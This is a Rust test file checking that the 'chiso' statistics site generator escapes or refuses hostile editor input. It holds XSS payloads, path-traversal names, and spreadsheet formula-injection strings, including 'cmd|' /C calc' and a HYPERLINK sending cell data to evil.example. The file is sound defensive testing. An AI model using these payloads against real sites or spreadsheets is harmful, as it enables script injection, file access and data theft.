//! Hostile input: what an editor pastes (or a shared project carries) must never run in a
//! reader's browser, and no file name an editor chooses may lead outside the project or the
//! output.
//!
//! Each test writes a project into a temporary folder, runs the real `chiso` binary on it and
//! reads back every published file. The HTML is checked by a small tag scanner (below) rather
//! than by searching for strings, so that escaped text such as `&lt;script&gt;`, which a
//! reader sees as harmless letters, is told apart from markup that runs.

use std::collections::BTreeMap;
use std::fs;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::html_scan::{csp_problems, html_problems, tags};

// ---------------------------------------------------------------------------------------------
// Hostile strings

const SCRIPT: &str = "<script>alert(1)</script>";
const IMG_ONERROR: &str = "<img src=x onerror=alert(1)>";
const SVG_ONLOAD: &str = "\"><svg onload=alert(1)>";
const IFRAME: &str = "<iframe src=\"javascript:alert(1)\"></iframe>";
const STYLE: &str = "<style>body{display:none}</style>";
const HIDDEN: &str = "<div style=\"display:none\">hidden</div>";
const BROKEN: &str = "<div><table><tr><td>unclosed";

/// CSV quoting: every cell in quotes, inner quotes doubled.
fn csv_row(cells: &[&str]) -> String {
    let quoted: Vec<String> = cells
        .iter()
        .map(|c| format!("\"{}\"", c.replace('"', "\"\"")))
        .collect();
    quoted.join(",") + "\n"
}

/// TOML basic string.
fn toml_str(s: &str) -> String {
    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
}

const INDICATORS_HEADER: &str = "code,group,group_en,name,name_en,unit,unit_en,direction,measure,numerator,denominator,scale,aggregate,decimals\n";

/// The narrative every unit of the hostile project carries: ordinary formatting that must stay,
/// and every trick that must go.
fn hostile_markdown(title: &str) -> String {
    format!(
        r#"+++
title = {title}
description = {description}
+++

## Ordinary formatting

Some **bold text**, some *emphasis* and ~~struck~~ words, a [safe link](https://example.gov.vn/so-lieu)
and an image: ![a chart](img.png)

| Huyện | Trạm |
|---|---|
| A | 1 |

A live figure: {{{{ value(indicator="subscribers", period="2024") }}}}.

## Hostile

{SCRIPT}

{IMG_ONERROR}

{SVG_ONLOAD}

[js link](javascript:alert(1)) [JS link](JaVaScRiPt:alert(1)) [tab link](java	script:alert(1))
[entity link](&#106;avascript:alert(1)) [data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[reference link][evil] <javascript:alert(1)> ![x](javascript:alert(1))

[evil]: javascript:alert(1)

<a href="javascript:alert(1)" onclick="alert(1)">raw link</a> <a href=" javascript:alert(1)">space</a>
<a href="java&#x09;script:alert(1)">encoded tab</a> <a href="data:text/html,<script>alert(1)</script>">data</a>

{IFRAME}

{STYLE}

<p style="display:none">hidden paragraph</p>

{HIDDEN}

<object data="x.swf"></object><embed src="x.swf"><form action="javascript:alert(1)"><input formaction="javascript:alert(1)"><button>go</button></form>

<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>svg link</text></a><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>

<math><mi xlink:href="javascript:alert(1)">x</mi></math>

<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="javascript:alert(1)//"><link rel="import" href="x.html">

<details open ontoggle=alert(1)><summary>s</summary></details> <video><source onerror=alert(1)></video>

<!-- <script>alert(1)</script> --><![CDATA[<script>alert(1)</script>]]>

[A figure as a link]({{{{ value(indicator="subscribers", period="2024") }}}}) and <a href="javascript:{{{{ value(indicator="subscribers", period="2024") }}}}">a figure in a script link</a>

{{{{ chart(kind="compare", indicator="coverage_pct") }}}}

{BROKEN}
"#,
        title = toml_str(title),
        description = toml_str(&format!("{SVG_ONLOAD} {SCRIPT}")),
    )
}

/// A province and two districts whose every editor-written text is hostile, with figures enough
/// for every chart and table. `sources` sets each value row's source and note.
fn write_hostile_project(root: &Path) {
    let w = |rel: &str, text: &str| write(root, rel, text);
    w(
        "chiso.toml",
        &format!(
            "title = {}\ntitle_en = {}\nlanguages = [\"vi\", \"en\"]\nupdated = \"2024-07-15\"\nprecompress = true\nheadline = [\"subscribers\", \"coverage_pct\"]\n\
             [charts]\ncoverage = [\"coverage_pct\"]\ngrowth = [\"subscribers\"]\n\
             [labels]\nsubscribers = {{ vi = {}, en = {} }}\n",
            toml_str(&format!("Tỉnh {SCRIPT}")),
            toml_str(&format!("Province {SVG_ONLOAD}")),
            toml_str(&format!("Thuê bao {IMG_ONERROR}")),
            toml_str(&format!("Subscriptions {SCRIPT}")),
        ),
    );
    let mut units = String::from("code,slug,name,name_en,level,parent\n");
    units += &csv_row(&[
        "01",
        "tinh",
        &format!("Tỉnh {SCRIPT}"),
        &format!("Province {IMG_ONERROR}"),
        "province",
        "",
    ]);
    units += &csv_row(&[
        "001",
        "huyen-a",
        &format!("Huyện {SVG_ONLOAD}"),
        &format!("District {IFRAME}"),
        "district",
        "01",
    ]);
    units += &csv_row(&[
        "002",
        "huyen-b",
        &format!("Huyện {STYLE}B"),
        &format!("District {HIDDEN}"),
        "district",
        "01",
    ]);
    w("data/units.csv", &units);
    let mut ind = String::from(INDICATORS_HEADER);
    ind += &csv_row(&[
        "subscribers",
        &format!("Thuê bao {SCRIPT}"),
        &format!("Subscriptions {SVG_ONLOAD}"),
        &format!("Số thuê bao {IMG_ONERROR}"),
        &format!("Subscriptions {BROKEN}"),
        &format!("Thuê bao {SVG_ONLOAD}"),
        &format!("subs {SCRIPT}"),
        "up",
        "stock",
        "",
        "",
        "",
        "sum",
        "0",
    ]);
    ind += &csv_row(&[
        "villages",
        "Hạ tầng",
        "Infrastructure",
        &format!("Thôn {IFRAME}"),
        "Villages",
        "Thôn",
        "villages",
        "up",
        "stock",
        "",
        "",
        "",
        "sum",
        "0",
    ]);
    ind += &csv_row(&[
        "covered",
        "Hạ tầng",
        "Infrastructure",
        &format!("Thôn có sóng {STYLE}"),
        "Covered",
        "Thôn",
        "villages",
        "up",
        "stock",
        "",
        "",
        "",
        "sum",
        "0",
    ]);
    ind += &csv_row(&[
        "coverage_pct",
        &format!("Hạ tầng {HIDDEN}"),
        "Infrastructure",
        &format!("Tỷ lệ {SVG_ONLOAD}"),
        &format!("Coverage {SCRIPT}"),
        "%",
        "%",
        "up",
        "stock",
        "covered",
        "villages",
        "100",
        "none",
        "1",
    ]);
    w("data/indicators.csv", &ind);
    let sources = [
        SCRIPT,
        IMG_ONERROR,
        SVG_ONLOAD,
        "javascript:alert(1)",
        IFRAME,
        STYLE,
        BROKEN,
    ];
    for (u, slug) in ["tinh", "huyen-a", "huyen-b"].iter().enumerate() {
        let mut v = String::from("indicator,period,kind,value,source,note\n");
        let mut n = u;
        let mut row = |cells: [&str; 4]| {
            let source = format!("Nguồn {}", sources[n % sources.len()]);
            let note = format!(
                "[x](javascript:alert(1)) {}",
                sources[(n + 3) % sources.len()]
            );
            n += 1;
            v += &csv_row(&[cells[0], cells[1], cells[2], cells[3], &source, &note]);
        };
        if u > 0 {
            for (p, subs, vil, cov) in [("2023", "1000", "40", "30"), ("2024", "1200", "40", "34")]
            {
                row(["subscribers", p, "actual", subs]);
                row(["villages", p, "actual", vil]);
                row(["covered", p, "actual", cov]);
            }
            row(["subscribers", "2025", "target", "1500"]);
        }
        if u == 0 {
            row(["coverage_pct", "2025", "target", "100"]);
            row(["subscribers", "2025", "target", "3000"]);
        }
        w(&format!("data/values/{slug}.csv"), &v);
    }
    w(
        "content/_index.md",
        &hostile_markdown(&format!("Tổng quan {SCRIPT}")),
    );
    w(
        "content/_index.en.md",
        &hostile_markdown(&format!("Overview {SVG_ONLOAD}")),
    );
    w(
        "content/huyen-a.md",
        &hostile_markdown(&format!("A {IMG_ONERROR}")),
    );
    w(
        "content/pages/about.md",
        &hostile_markdown(&format!("Giới thiệu {SCRIPT}")),
    );
    w(
        "content/pages/about.en.md",
        &hostile_markdown(&format!("About {IFRAME}")),
    );
    // The ordinary image of every narrative (`![a chart](img.png)`), beside each of them.
    // A PNG's signature and header chunk (1 × 1 pixel): what the checks read of an image.
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\0\0\0\0";
    for rel in ["content/img.png", "content/pages/img.png"] {
        fs::write(root.join(rel), png).unwrap();
    }
}

// ---------------------------------------------------------------------------------------------
// Running the binary

fn write(root: &Path, rel: &str, text: &str) {
    let path = root.join(rel);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

struct Run {
    success: bool,
    output: String,
}

fn chiso(args: &[&str]) -> Run {
    let out = Command::new(env!("CARGO_BIN_EXE_chiso"))
        .args(args)
        .env("SOURCE_DATE_EPOCH", "1720000000")
        .output()
        .expect("run the chiso binary");
    Run {
        success: out.status.success(),
        output: format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    }
}

fn build(root: &Path, output: &Path) -> Run {
    chiso(&[
        "--lang",
        "en",
        "build",
        "--root",
        root.to_str().unwrap(),
        "--output",
        output.to_str().unwrap(),
    ])
}

fn check(root: &Path) -> Run {
    chiso(&["--lang", "en", "check", "--root", root.to_str().unwrap()])
}

/// Every file under `dir` (following no links) by its path relative to `dir`.
fn files(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in fs::read_dir(&d).unwrap() {
            let e = e.unwrap();
            let t = e.file_type().unwrap();
            if t.is_dir() {
                stack.push(e.path());
            } else {
                let bytes = if t.is_symlink() {
                    format!("-> {}", fs::read_link(e.path()).unwrap().display()).into_bytes()
                } else {
                    fs::read(e.path()).unwrap()
                };
                out.insert(e.path().strip_prefix(dir).unwrap().to_path_buf(), bytes);
            }
        }
    }
    out
}

/// Every path (files, folders, links) under `dir`, with each file's bytes, for "untouched" checks.
fn tree(dir: &Path) -> BTreeMap<PathBuf, Option<Vec<u8>>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in fs::read_dir(&d).unwrap() {
            let e = e.unwrap();
            let t = e.file_type().unwrap();
            let rel = e.path().strip_prefix(dir).unwrap().to_path_buf();
            if t.is_dir() {
                stack.push(e.path());
                out.insert(rel, None);
            } else if t.is_symlink() {
                out.insert(
                    rel,
                    Some(format!("-> {}", fs::read_link(e.path()).unwrap().display()).into_bytes()),
                );
            } else {
                out.insert(rel, Some(fs::read(e.path()).unwrap()));
            }
        }
    }
    out
}

fn gunzip(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    flate2::read::GzDecoder::new(bytes)
        .read_to_end(&mut out)
        .expect("a valid .gz file");
    out
}

/// Checks every file of a built site; returns what is wrong, file by file.
fn site_problems(site: &BTreeMap<PathBuf, Vec<u8>>) -> Vec<String> {
    let mut problems = Vec::new();
    for (path, bytes) in site {
        let name = path.to_string_lossy().replace('\\', "/");
        let ext = name.rsplit('.').next().unwrap_or("");
        if ext == "gz" {
            // The precompressed copy must be exactly the file beside it, checked below.
            let plain = PathBuf::from(name.strip_suffix(".gz").unwrap());
            match site.get(&plain) {
                Some(p) if *p == gunzip(bytes) => {}
                Some(_) => problems.push(format!("{name}: differs from {}", plain.display())),
                None => problems.push(format!("{name}: no uncompressed file beside it")),
            }
            continue;
        }
        let Ok(text) = std::str::from_utf8(bytes) else {
            continue; // images, workbooks
        };
        match ext {
            "html" => {
                problems.extend(
                    html_problems(text)
                        .into_iter()
                        .map(|p| format!("{name}: {p}")),
                );
                problems.extend(
                    csp_problems(text)
                        .into_iter()
                        .map(|p| format!("{name}: {p}")),
                );
            }
            "svg" | "xml" => {
                // Standalone SVG and the Atom feeds: text is escaped, so there is no tag here but
                // the file's own.
                problems.extend(
                    html_problems(text)
                        .into_iter()
                        .map(|p| format!("{name}: {p}")),
                );
                if text.contains("<![CDATA[") {
                    problems.push(format!("{name}: CDATA section"));
                }
            }
            "json" => {
                if let Err(e) = serde_json::from_str::<serde_json::Value>(text) {
                    problems.push(format!("{name}: not JSON: {e}"));
                }
            }
            // The theme's own files: no editor text may reach them.
            "css" | "js" if text.contains("alert(1)") => {
                problems.push(format!("{name}: editor text in a theme file"));
            }
            _ => {}
        }
    }
    problems
}

fn html_pages(site: &BTreeMap<PathBuf, Vec<u8>>) -> Vec<(String, String)> {
    site.iter()
        .filter(|(p, _)| p.extension().is_some_and(|e| e == "html"))
        .map(|(p, b)| {
            (
                p.to_string_lossy().replace('\\', "/"),
                String::from_utf8(b.clone()).expect("UTF-8 HTML"),
            )
        })
        .collect()
}

// ---------------------------------------------------------------------------------------------
// The scanner itself: it must see what it is meant to see.

#[test]
fn scanner_finds_what_runs_and_lets_escaped_text_be() {
    let bad = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=x.js></SCRIPT>",
        "<script src=\"../assets/search.js\"></script>",
        "<script src=\"https://evil.example/assets/search.js\" defer></script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" JaVa&#x09;Script:alert(1)\">x</a>",
        "<a href='data:text/html,x'>x</a>",
        "<iframe src=x></iframe>",
        "<style>p{}</style>",
        "<p style=\"display:none\">x</p>",
        "<a xlink:href=\"javascript:x\">x</a>",
        "<meta http-equiv=\"refresh\" content=\"0;url=x\">",
        "<base href=\"x\">",
        "<form action=\"javascript:x\">",
        "<a href=\"\u{1}javascript:x\">x</a>",
        "<a href=\"java\nscript:x\">x</a>",
        "<img srcset=\"a.png 1x, javascript:alert(1) 2x\">",
    ];
    for b in bad {
        assert!(!html_problems(b).is_empty(), "missed: {b}");
    }
    let good = [
        "<p>&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt;</p>",
        "<meta name=\"description\" content=\"&quot;&gt;&lt;svg onload=alert(1)&gt;\">",
        "<a href=\"https://example.gov.vn/\" title=\"javascript: a word\">x</a>",
        "<script src=\"../../assets/search.js\" defer></script>",
        "<script src=\"assets/search.js\" defer></script>",
        "<a href=\"../tinh/index.html#javascript:x\">x</a>",
        "<a href=\"|data:text/html,javascript:alert(1)\">relative</a>",
        "<a href=\"java script:x\">relative</a>",
        "<img srcset=\"a.png 1x, b.png 2x\" src=\"a.png\">",
    ];
    for g in good {
        assert_eq!(html_problems(g), Vec::<String>::new(), "{g}");
    }
}

// ---------------------------------------------------------------------------------------------
// Nothing an editor writes runs

#[test]
fn hostile_text_everywhere_publishes_nothing_that_runs() {
    let outer = tempfile::tempdir().unwrap();
    let root = outer.path().join("project");
    write_hostile_project(&root);
    let before = tree(outer.path());
    let out = root.join("site");
    let run = build(&root, &out);
    assert!(
        run.success,
        "the hostile project must build (its text is data):\n{}",
        run.output
    );

    // Nothing outside the output (and the lock beside it) was created or changed.
    let mut after = tree(outer.path());
    after.retain(|p, _| !p.starts_with("project/site") && p != Path::new("project/.site.lock"));
    assert_eq!(
        before.keys().collect::<Vec<_>>(),
        after.keys().collect::<Vec<_>>()
    );
    assert!(before == after, "a file outside the output changed");

    let site = files(&out);
    assert!(
        site.len() > 20,
        "a whole site: {:?}",
        site.keys().collect::<Vec<_>>()
    );
    // `precompress = true`: the copies are checked against their files below.
    assert!(site.contains_key(Path::new("index.html.gz")));
    let problems = site_problems(&site);
    assert!(
        problems.is_empty(),
        "{} problems:\n{}",
        problems.len(),
        problems.join("\n")
    );

    let pages = html_pages(&site);
    // Hostile names are shown as the text they are, not dropped: the test saw them.
    let home = &site[Path::new("index.html")];
    let home = String::from_utf8_lossy(home);
    assert!(
        home.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "the escaped name is on the home page"
    );
    // The charts (inline SVG) carry the hostile names too, escaped.
    let svg_with_names = pages.iter().any(|(_, html)| {
        html.split("<svg").skip(1).any(|svg| {
            let svg = &svg[..svg.find("</svg>").unwrap_or(svg.len())];
            svg.contains("&lt;script&gt;")
                || svg.contains("&lt;img")
                || svg.contains("&quot;&gt;&lt;svg")
        })
    });
    assert!(
        svg_with_names,
        "no chart showed a hostile name: the test did not reach the SVG"
    );
    // Ordinary Markdown stays.
    for wanted in [
        "<strong>bold text</strong>",
        "<em>emphasis</em>",
        "<del>struck</del>",
        "<table>",
        "<td>A</td>",
        "src=\"media/img.png\"",
        "alt=\"a chart\"",
        "href=\"https://example.gov.vn/so-lieu\"",
        ">safe link</a>",
    ] {
        assert!(
            home.contains(wanted),
            "the home page lost ordinary formatting: {wanted}"
        );
    }
    // Broken markup is closed where it was opened: the page's own structure survives.
    for (path, html) in &pages {
        for el in [
            "div", "table", "main", "header", "footer", "p", "ul", "nav", "section", "figure",
            "svg",
        ] {
            let open = tags(html).iter().filter(|t| t.name == el).count();
            let close = html
                .to_ascii_lowercase()
                .matches(&format!("</{el}>"))
                .count();
            assert_eq!(open, close, "{path}: {open} <{el}> but {close} </{el}>");
        }
        assert_eq!(html.matches("<main").count(), 1, "{path}: one <main>");
        assert!(
            html.trim_end().ends_with("</html>"),
            "{path}: ends with </html>"
        );
    }

    // The published data keeps the editors' text exactly: it is data, not markup.
    let unit_csv = String::from_utf8_lossy(&site[Path::new("data/huyen-a.csv")]).into_owned();
    let mut reader = csv::Reader::from_reader(unit_csv.as_bytes());
    let header = reader.headers().unwrap().clone();
    let source_col = header
        .iter()
        .position(|h| h == "source")
        .expect("a source column");
    let sources: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[source_col].to_string())
        .collect();
    assert!(
        sources.contains(&format!("Nguồn {SCRIPT}")),
        "sources: {sources:?}"
    );
    let json: serde_json::Value =
        serde_json::from_slice(&site[Path::new("data/huyen-a.json")]).unwrap();
    assert!(
        json.to_string().contains("Nguồn <script>alert(1)</script>"),
        "the JSON keeps the text"
    );
}

/// The sample project's site, with every page kind (reports, coverage gaps…), passes the same
/// checks: a Content-Security-Policy on every page, no script but the site's own.
#[test]
fn sample_site_has_its_policy_and_nothing_else_that_runs() {
    let outer = tempfile::tempdir().unwrap();
    let out = outer.path().join("site");
    let run = build(Path::new(env!("CARGO_MANIFEST_DIR")), &out);
    assert!(run.success, "{}", run.output);
    let site = files(&out);
    let problems = site_problems(&site);
    assert!(
        problems.is_empty(),
        "{} problems:\n{}",
        problems.len(),
        problems.join("\n")
    );
    let scripts = html_pages(&site)
        .iter()
        .filter(|(_, h)| h.contains("<script"))
        .count();
    assert!(scripts >= 1, "the search page has its script");
}

#[test]
fn hostile_shortcode_arguments_are_refused_and_nothing_is_written() {
    for (n, shortcode) in [
        r#"{{ value(indicator="<script>alert(1)</script>", period="2024") }}"#,
        r#"{{ value(indicator="subscribers", period="2024\"><svg onload=alert(1)>") }}"#,
        r#"{{ value(indicator="subscribers", period="2024", unit="../../etc/passwd") }}"#,
        r#"{{ value(indicator="subscribers", period="2024", kind="<img src=x onerror=alert(1)>") }}"#,
        r#"{{ chart(kind="\"><svg onload=alert(1)>", indicator="subscribers") }}"#,
        r#"{{ chart(kind="compare", indicator="javascript:alert(1)") }}"#,
        r#"{{ <script>alert(1)</script>(indicator="subscribers") }}"#,
        r#"{{ progress(indicator="subscribers", onload="alert(1)") }}"#,
        r#"{{ value(indicator="subscribers", period="2024" onerror="alert(1)") }}"#,
        r#"{{ value(indicator='subscribers', period='2024'"#,
    ]
    .iter()
    .enumerate()
    {
        let outer = tempfile::tempdir().unwrap();
        let root = outer.path().join("project");
        write_hostile_project(&root);
        write(&root, "content/huyen-b.md", &format!("Intro\n\n{shortcode}\n"));
        let before = tree(outer.path());
        let out = root.join("site");
        let run = build(&root, &out);
        assert!(!run.success, "#{n} {shortcode} must be refused:\n{}", run.output);
        assert!(run.output.contains("content/huyen-b.md:3"), "#{n}: the message names the file and line:\n{}", run.output);
        assert!(!out.exists(), "#{n}: no site is written");
        let mut after = tree(outer.path());
        after.remove(Path::new("project/.site.lock"));
        assert!(before == after, "#{n}: nothing changed outside the output");
    }
}

/// `base_url` only feeds the canonical link, the sitemap and the feed; a `javascript:` or
/// `data:` one must be refused, or at least never become a link.
#[test]

fn a_hostile_base_url_is_refused_or_harmless() {
    let mut all = Vec::new();
    for base in [
        "javascript:alert(1)//",
        "data:text/html,<script>alert(1)</script>",
        "https://example.gov.vn/\"><script>alert(1)</script>",
    ] {
        for (how, flag) in [("chiso.toml", false), ("--base-url", true)] {
            let outer = tempfile::tempdir().unwrap();
            let root = outer.path().join("project");
            write_plain_project(&root);
            let out = root.join("site");
            let root_s = root.to_str().unwrap();
            let out_s = out.to_str().unwrap();
            let run = if flag {
                chiso(&[
                    "--lang",
                    "en",
                    "build",
                    "--root",
                    root_s,
                    "--output",
                    out_s,
                    "--base-url",
                    base,
                ])
            } else {
                write(
                    &root,
                    "chiso.toml",
                    &format!("base_url = {}\n", toml_str(base)),
                );
                build(&root, &out)
            };
            if !run.success {
                assert!(!out.exists(), "{how} {base}: refused, and no site written");
                continue;
            }
            let problems = site_problems(&files(&out));
            let pages: std::collections::BTreeSet<&str> = problems
                .iter()
                .filter_map(|p| p.split(':').next())
                .collect();
            if !problems.is_empty() {
                all.push(format!(
                    "{how} = {base}: {} problems in {pages:?}, e.g.\n  {}",
                    problems.len(),
                    problems[0]
                ));
            }
        }
    }
    assert!(all.is_empty(), "{}", all.join("\n"));
}

/// A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` as a formula
/// (`=HYPERLINK(…)`, `=cmd|…`): published CSV cells of editor text must not, or the input must
/// be refused.
#[test]

fn published_csv_cells_cannot_run_as_formulas() {
    let outer = tempfile::tempdir().unwrap();
    let root = outer.path().join("project");
    write_hostile_project(&root);
    let formulas = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Bấm\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ];
    let mut v = fs::read_to_string(root.join("data/values/huyen-a.csv")).unwrap();
    let first_line = v.lines().count() + 1;
    for (n, f) in formulas.iter().enumerate() {
        let year = (2016 + n).to_string();
        v += &csv_row(&["subscribers", &year, "actual", "900", f, f]);
    }
    write(&root, "data/values/huyen-a.csv", &v);
    let out = root.join("site");
    let run = build(&root, &out);
    if !run.success {
        // Refusing such text at input is as good, if that is why the build failed.
        for line in first_line..first_line + formulas.len() {
            let at = format!("data/values/huyen-a.csv:{line}");
            assert!(
                run.output.contains(&at),
                "refused, but not for {at}:\n{}",
                run.output
            );
        }
        return;
    }
    let mut problems = Vec::new();
    for (path, bytes) in files(&out) {
        if path.extension().is_some_and(|e| e == "csv") {
            let mut r = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(&bytes[..]);
            for rec in r.records() {
                for cell in rec.unwrap().iter() {
                    let first = cell.chars().next();
                    let number = cell.parse::<f64>().is_ok() || cell.contains("..");
                    if matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
                        || (first == Some('-') && !number)
                    {
                        problems.push(format!("{}: {cell}", path.display()));
                    }
                }
            }
        }
    }
    assert!(
        problems.is_empty(),
        "cells a spreadsheet runs:\n{}",
        problems.join("\n")
    );
}

// ---------------------------------------------------------------------------------------------
// Names that lead elsewhere

/// A small valid project: the province and two districts with a figure each.
fn write_plain_project(root: &Path) {
    write(
        root,
        "data/units.csv",
        "code,slug,name,name_en,level,parent\n01,tinh,Tỉnh,Province,province,\n001,huyen-a,Huyện A,A,district,01\n002,huyen-b,Huyện B,B,district,01\n",
    );
    write(
        root,
        "data/indicators.csv",
        &format!("{INDICATORS_HEADER}subscribers,Thuê bao,Subscriptions,Số thuê bao,Subscriptions,Thuê bao,subscriptions,up,stock,,,,sum,0\n"),
    );
    for slug in ["huyen-a", "huyen-b"] {
        write(
            root,
            &format!("data/values/{slug}.csv"),
            "indicator,period,kind,value,source,note\nsubscribers,2024,actual,100,Nguồn,\nsubscribers,2025,target,200,Nguồn,\n",
        );
    }
    write(
        root,
        "content/_index.md",
        "+++\ntitle = \"Tổng quan\"\n+++\nXin chào.\n",
    );
}

/// Builds `root` (expected to fail), then asserts the message, that no site was written and that
/// nothing outside the project changed.
#[track_caller]
fn assert_refused(outer: &Path, root: &Path, wanted: &[&str]) -> String {
    let rel_root = root.strip_prefix(outer).unwrap().to_path_buf();
    let before = tree(outer);
    let out = root.join("site");
    let run = build(root, &out);
    assert!(!run.success, "must be refused:\n{}", run.output);
    for w in wanted {
        assert!(
            run.output.contains(w),
            "the message should mention {w:?}:\n{}",
            run.output
        );
    }
    assert!(!out.exists(), "no site is written");
    let mut after = tree(outer);
    after.remove(&rel_root.join(".site.lock"));
    let added: Vec<_> = after.keys().filter(|k| !before.contains_key(*k)).collect();
    assert!(added.is_empty(), "created outside the output: {added:?}");
    assert!(before == after, "something outside the output changed");
    let check = check(root);
    assert!(
        !check.success,
        "`chiso check` refuses it too:\n{}",
        check.output
    );
    run.output
}

#[test]
fn plain_project_builds() {
    // The control for the tests below: without the hostile name, the same project builds.
    let outer = tempfile::tempdir().unwrap();
    let root = outer.path().join("project");
    write_plain_project(&root);
    let run = build(&root, &root.join("site"));
    assert!(run.success, "{}", run.output);
    assert!(root.join("site/huyen-a/index.html").is_file());
}

#[test]
fn unit_slugs_and_codes_that_leave_their_folder_are_refused() {
    for (slug, code) in [
        ("../x", "003"),
        ("..", "003"),
        (".", "003"),
        ("a/b", "003"),
        ("../../../../tmp/x", "003"),
        ("a\\b", "003"),
        ("/abs", "003"),
        ("%2e%2e", "003"),
        ("x\u{0}y", "003"),
        ("huyen-c", "../003"),
        ("huyen-c", "0/3"),
        ("huyen-c", "..\\003"),
        ("huyen-c", ".."),
    ] {
        let outer = tempfile::tempdir().unwrap();
        let root = outer.path().join("project");
        write_plain_project(&root);
        let units = fs::read_to_string(root.join("data/units.csv")).unwrap()
            + &csv_row(&[code, slug, "Huyện C", "C", "district", "01"]);
        write(&root, "data/units.csv", &units);
        assert_refused(outer.path(), &root, &["data/units.csv:5"]);
    }
}

#[test]
fn indicator_codes_that_leave_their_folder_are_refused() {
    for code in [
        "../x",
        "..",
        "a/b",
        "../../../../tmp/x",
        "a\\b",
        "/abs",
        "x.y",
    ] {
        let outer = tempfile::tempdir().unwrap();
        let root = outer.path().join("project");
        write_plain_project(&root);
        let ind = fs::read_to_string(root.join("data/indicators.csv")).unwrap()
            + &csv_row(&[
                code, "G", "G", "N", "N", "u", "u", "up", "stock", "", "", "", "sum", "0",
            ]);
        write(&root, "data/indicators.csv", &ind);
        assert_refused(outer.path(), &root, &["data/indicators.csv:3"]);
    }
}

#[test]
fn page_names_that_are_not_slugs_are_refused() {
    for name in [
        "..md",
        ".hidden.md",
        "a.b.md",
        "A B.md",
        "x%2f..md",
        "Giới thiệu.md",
        "-.en.en.md",
    ] {
        let outer = tempfile::tempdir().unwrap();
        let root = outer.path().join("project");
        write_plain_project(&root);
        write(
            &root,
            &format!("content/pages/{name}"),
            "+++\ntitle = \"x\"\n+++\nx\n",
        );
        assert_refused(outer.path(), &root, &["content/pages/"]);
    }
}

#[test]
fn narratives_and_value_files_for_no_unit_are_refused() {
    for rel in [
        "content/..md",
        "content/huyen-z.md",
        "data/values/..csv",
        "data/values/huyen-z.csv",
    ] {
        let outer = tempfile::tempdir().unwrap();
        let root = outer.path().join("project");
        write_plain_project(&root);
        write(&root, rel, "indicator,period,kind,value,source,note\n");
        let folder = &rel[..rel.rfind('/').unwrap() + 1];
        assert_refused(outer.path(), &root, &[folder]);
    }
}

/// Every folder the site makes for itself, and every open data file name, is refused as a unit's
/// slug: a unit so named would overwrite the site's own page or file.
#[test]
fn slugs_the_site_uses_for_itself_are_refused() {
    let outer = tempfile::tempdir().unwrap();
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"));
    let out = outer.path().join("sample-site");
    let run = build(sample, &out);
    assert!(run.success, "{}", run.output);
    let units = fs::read_to_string(sample.join("data/units.csv")).unwrap();
    let slugs: Vec<String> = units
        .lines()
        .skip(1)
        .filter_map(|l| l.split(',').nth(1))
        .map(String::from)
        .collect();
    // A unit's page is `<slug>/index.html` and its open data `data/<slug>.csv` and `.json`: the
    // site's own folders and its own files in `data/` are what a slug could collide with.
    let mut names: Vec<String> = Vec::new();
    for (dir, folders) in [(out.clone(), true), (out.join("data"), false)] {
        for e in fs::read_dir(&dir).unwrap() {
            let e = e.unwrap();
            if e.file_type().unwrap().is_dir() != folders {
                continue;
            }
            let name = e.file_name().to_string_lossy().into_owned();
            let open_data = name.ends_with(".csv") || name.ends_with(".json");
            if !folders && !open_data {
                continue;
            }
            let stem = name.split('.').next().unwrap().to_string();
            if !slugs.contains(&stem)
                && chiso::load::units::is_slug(&stem)
                && !names.contains(&stem)
            {
                names.push(stem);
            }
        }
    }
    assert!(names.len() > 5, "{names:?}");
    let root = outer.path().join("project");
    write_plain_project(&root);
    let mut text = fs::read_to_string(root.join("data/units.csv")).unwrap();
    for (n, name) in names.iter().enumerate() {
        text += &csv_row(&[&format!("{}", 100 + n), name, "X", "X", "district", "01"]);
    }
    write(&root, "data/units.csv", &text);
    let run = check(&root);
    assert!(
        !run.success,
        "reserved slugs must be refused: {names:?}\n{}",
        run.output
    );
    let missed: Vec<&String> = names
        .iter()
        .enumerate()
        .filter(|(n, _)| {
            !run.output
                .contains(&format!("data/units.csv:{} (column `slug`)", n + 5))
        })
        .map(|(_, s)| s)
        .collect();
    assert!(
        missed.is_empty(),
        "accepted as unit slugs although the site uses them: {missed:?}\n{}",
        run.output
    );
}

// ---------------------------------------------------------------------------------------------
// Links that lead outside the project

#[cfg(unix)]
mod links {
    use super::*;
    use std::os::unix::fs::symlink;

    const SECRET: &str = "SECRET-OUTSIDE-THE-PROJECT";

    /// `outer/outside/` holds what a link may point at: a unit list, values, narratives and
    /// templates, each with the secret in it.
    fn outside(outer: &Path) -> PathBuf {
        let dir = outer.join("outside");
        write(
            &dir,
